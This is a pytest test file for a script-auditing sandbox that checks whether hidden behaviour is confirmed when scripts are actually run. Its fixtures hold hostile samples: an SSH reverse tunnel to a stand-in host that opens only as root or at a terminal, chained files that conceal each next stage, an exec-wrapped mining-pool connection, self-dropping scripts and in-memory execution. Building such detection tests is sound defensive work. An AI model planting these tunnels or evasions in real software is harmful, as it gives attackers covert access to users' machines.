"""Passes that are asked for, and rounds: what shows only to root, at a terminal, or when a missing tool is there."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from auditor.pipeline import Auditor
from auditor.render.document import report_object
from auditor.trial.request import TrialLimits
from auditor.trying import TrialOptions
from tests.trial.driver import Driver
from tests.trial.test_confirmed import shown

pytestmark = [pytest.mark.trial, pytest.mark.slow, pytest.mark.timeout(120)]
TUNNEL = "ssh -N -R 2222:localhost:22 ops@203.0.113.5"
FOR_ROOT = f'if [ "$(id -u)" = 0 ]; then\n  {TUNNEL}\nfi\n'
FOR_ROOT_PYTHON = (
    "import os, subprocess\nif os.geteuid() == 0:\n"
    "    subprocess.run(['ssh', '-N', '-R', '2222:localhost:22', 'ops@203.0.113.5'])\n"
)
AT_A_TERMINAL = (
    f'if [ -t 0 ] && [ -t 1 ]; then\n  read -r answer\n  if [ "$answer" = y ]; then\n    {TUNNEL}\n  fi\nfi\n'
)
AT_A_TERMINAL_PYTHON = (
    "import subprocess, sys\nif sys.stdin.isatty() and input('go on? ').startswith('y'):\n"
    "    subprocess.run(['ssh', '-N', '-R', '2222:localhost:22', 'ops@203.0.113.5'])\n"
)
SUSPECTS = (
    ("as_root", "bash", FOR_ROOT),
    ("as_root", "python", FOR_ROOT_PYTHON),
    ("tty", "bash", AT_A_TERMINAL),
    ("tty", "python", AT_A_TERMINAL_PYTHON),
)
TWINS = (
    ("as_root", "bash", 'if [ "$(id -u)" = 0 ]; then\n  echo root > who\n  ls /root\nfi\n'),
    ("tty", "python", "import sys\nif sys.stdin.isatty():\n    print(input('name? '))\n"),
)


def wall(options: dict[str, Any]) -> dict[str, Any]:
    return {"wall": 4.0, "grace": 0.5, **options}


@pytest.mark.parametrize(("option", "language", "text"), SUSPECTS)
def test_what_waits_for_somebody_is_confirmed_in_the_pass_for_it(
    driver: Driver, option: str, language: str, text: str
) -> None:
    """Without the pass its line is not reached; with it the tunnel is opened."""
    plain = driver.trial(text, language, **wall({}))
    assert {one["status"] for one in plain["findings"]} == {"not-reached"}, shown(plain)
    report = driver.trial(text, language, **wall({option: True}))
    statuses = {one["rule"]: one["status"] for one in report["findings"]}
    assert statuses["ssh-reverse-forward"] == "confirmed", shown(report)
    assert report["trial"]["passes"] > plain["trial"]["passes"]


@pytest.mark.parametrize(("option", "language", "text"), TWINS)
def test_a_harmless_twin_is_tried_as_often_and_confirms_nothing(
    driver: Driver, option: str, language: str, text: str
) -> None:
    # A busy machine may take long over what ends by itself.
    report = driver.trial(text, language, wall=20.0, grace=5.0, **{option: True})
    assert report["trial"]["passes"] == 2
    assert report["trial"]["is_complete"], shown(report)
    assert report["findings"] == [], shown(report)


def chain(folder: Path, links: int) -> str:
    """Write code that goes on only where a tool is there that nobody knew of before it ran.

    Each link lies in a file of its own, out of the reader's reach: the trial alone shows the next one.
    """
    for number in range(1, links + 1):
        following = f'bash -c "$(cat link-{number + 1})"' if number < links else TUNNEL
        (folder / f"link-{number}").write_text(f"absent-tool-{number} && {following}")
    return (folder / "link-1").read_text()


def blind(text: str) -> str:
    """Hide a text from reading, as an unknown input would: it comes from a file of the working directory."""
    return f'code=$(cat "$1")\nbash -c "$code"\n: {len(text)}\n'


@pytest.fixture(scope="module")
def auditor() -> Iterator[Auditor]:
    with Auditor() as made:
        yield made


def tried(auditor: Auditor, text: str, tmp_path: Path, limits: TrialLimits, language: str = "bash") -> dict[str, Any]:
    (tmp_path / "stage").write_text(text)
    options = TrialOptions(arguments=("stage",), workdir=tmp_path, limits=limits)
    script = blind(text) if language == "bash" else "import sys\nexec(open(sys.argv[1]).read())\n"
    report = auditor.trial(script, language=language, path="s", options=options)
    made: dict[str, Any] = json.loads(msgspec.json.encode(report_object(report)))
    return made


def test_rounds_go_on_to_the_limit_and_one_past_it_is_a_gap(auditor: Auditor, tmp_path: Path) -> None:
    """Each round has the tools that the code of the one before asked for; what is left after the last is told."""
    limits = TrialLimits(wall_seconds=3.0, grace_seconds=0.5, rounds=2)
    reached = tried(auditor, chain(tmp_path, 1), tmp_path, limits)
    assert reached["trial"]["passes"] >= 2
    assert "ssh.forward remote 2222 localhost" in {each["effect"] for each in reached["trial"]["observed"]}
    assert reached["gaps"] == [], reached["gaps"]
    past = tried(auditor, chain(tmp_path, 3), tmp_path, limits)
    assert [gap["what"] for gap in past["gaps"] if gap["stage"] == "trial"] == [
        "code that appeared in round 2 asks for more: further rounds were not run"
    ]


@pytest.mark.parametrize(
    "text",
    [
        "import subprocess\nsubprocess.run(['ssh', '-N', '-R', '2222:localhost:22', 'ops@203.0.113.5'])\n",
        "exec(\"import socket\\ns = socket.create_connection(('pool.example', 3333))\\n"
        's.sendall(b\'{\\"id\\":1,\\"method\\":\\"mining.subscribe\\",\\"params\\":[]}\\\\n\')")\n',
        "open('/tmp/a.sh', 'w').write("
        "'echo \"ssh -N -R 2222:localhost:22 ops@203.0.113.5\" > /tmp/b.sh; bash /tmp/b.sh')\n"
        "import subprocess\nsubprocess.run(['bash', '/tmp/a.sh'])\n",
    ],
    ids=["exec", "exec-in-exec", "dropped-file-that-drops"],
)
def test_code_that_python_runs_from_text_is_read(auditor: Auditor, tmp_path: Path, text: str) -> None:
    """What `exec` is handed, what that hands on, and files that are written by files that were."""
    report = tried(auditor, text, tmp_path, TrialLimits(wall_seconds=3.0, grace_seconds=0.5), "python")
    assert "hidden" in {one["status"] for one in report["findings"]}, shown(report)


def test_code_that_was_run_from_memory_is_a_gap(driver: Driver) -> None:
    """Nothing is left of it that could be read."""
    text = "import os\nheld = os.memfd_create('x')\nos.write(held, open('/bin/true', 'rb').read())\n"
    text += "os.execve(held, ['x'], {})\n"
    gaps = driver.trial(text, "python")["gaps"]
    assert [gap["what"] for gap in gaps if gap["stage"] == "trial"] == [
        "a program that was run from memory, or by a descriptor"
    ]
